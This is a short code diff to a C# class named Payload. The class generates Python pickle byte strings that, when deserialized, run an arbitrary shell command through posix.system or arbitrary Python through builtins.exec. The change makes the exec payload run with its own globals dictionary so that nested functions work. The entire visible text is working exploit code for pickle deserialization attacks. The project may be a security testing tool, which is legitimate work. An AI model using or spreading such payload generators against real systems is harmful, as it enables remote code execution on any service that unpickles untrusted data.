@@ -12,8 +12,8 @@ internal static class Payload
     /// <summary><c>posix.system(command)</c>.</summary>
     public static byte[] System(string command) => Encoding.ASCII.GetBytes($"cposix\nsystem\n(V{Escaped(command)}\ntR.");
 
-    /// <summary><c>builtins.exec(code)</c>.</summary>
-    public static byte[] Python(string code) => Encoding.ASCII.GetBytes($"cbuiltins\nexec\n(V{Escaped(code)}\ntR.");
+    /// <summary><c>builtins.exec(code, {})</c>: globals of its own, which nested functions need.</summary>
+    public static byte[] Python(string code) => Encoding.ASCII.GetBytes($"cbuiltins\nexec\n(V{Escaped(code)}\n(dtR.");
 
     /// <summary>What protocol 0 calls raw-unicode-escape: all but plain ASCII as \uXXXX.</summary>
     private static string Escaped(string text)
